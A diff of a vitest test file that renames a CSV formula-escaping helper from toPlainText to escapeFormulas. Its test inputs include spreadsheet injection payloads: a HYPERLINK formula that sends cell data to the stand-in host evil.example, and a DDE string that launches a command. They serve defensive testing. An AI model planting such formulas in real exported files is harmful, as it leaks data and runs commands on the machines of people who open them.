@@ -1,7 +1,7 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import { parseCsv, parseCsvLeniently } from "#tests/support/files/csv";
-import { toCsv, toPlainText } from "./csv";
+import { toCsv, escapeFormulas } from "./csv";
 
 test.each([
   "=1+1",
@@ -24,14 +24,14 @@ test.each([
   "'=1",
   `=HYPERLINK("https://evil.example?"&A1)`,
   "=cmd|' /C calc'!A0",
-])("toPlainText escapes %j, which a spreadsheet would run as a formula", (text) => {
-  expect(toPlainText(text)).toBe(`'${text}`);
+])("escapeFormulas escapes %j, which a spreadsheet would run as a formula", (text) => {
+  expect(escapeFormulas(text)).toBe(`'${text}`);
 });
 
 test.each(["", "Ada", "a=b", "1-2", "(818) 555-0142", "34.1866, -118.4487", "O'Hara", "a; b", "a;b=c"])(
-  "toPlainText leaves %j unchanged",
+  "escapeFormulas leaves %j unchanged",
   (text) => {
-    expect(toPlainText(text)).toBe(text);
+    expect(escapeFormulas(text)).toBe(text);
   },
 );
 
@@ -44,16 +44,16 @@ test.each([
   ["\n=1", "'\n'=1"],
   [";＝1", ";'＝1"],
   [';"\u00a0=1', `;"\u00a0'=1`],
-])("toPlainText escapes the formula in %j that appears with another separator", (text, written) => {
-  expect(toPlainText(text)).toBe(written);
+])("escapeFormulas escapes the formula in %j that appears with another separator", (text, written) => {
+  expect(escapeFormulas(text)).toBe(written);
 });
 
-test("toPlainText escapes a formula after any number of blanks, in linear time", () => {
+test("escapeFormulas escapes a formula after any number of blanks, in linear time", () => {
   const blanks = " \t".repeat(500_000);
   // Compared as booleans, because a diff of a million characters takes minutes.
-  expect(toPlainText(`${blanks}=1`) === `${blanks}'=1`).toBe(true);
-  expect(toPlainText(`a${blanks}b`) === `a${blanks}b`).toBe(true);
-  expect(toPlainText(`${" ".repeat(2_000)}=1`) === `'${" ".repeat(2_000)}=1`).toBe(true);
+  expect(escapeFormulas(`${blanks}=1`) === `${blanks}'=1`).toBe(true);
+  expect(escapeFormulas(`a${blanks}b`) === `a${blanks}b`).toBe(true);
+  expect(escapeFormulas(`${" ".repeat(2_000)}=1`) === `'${" ".repeat(2_000)}=1`).toBe(true);
 });
 
 const hostile = fc.oneof(
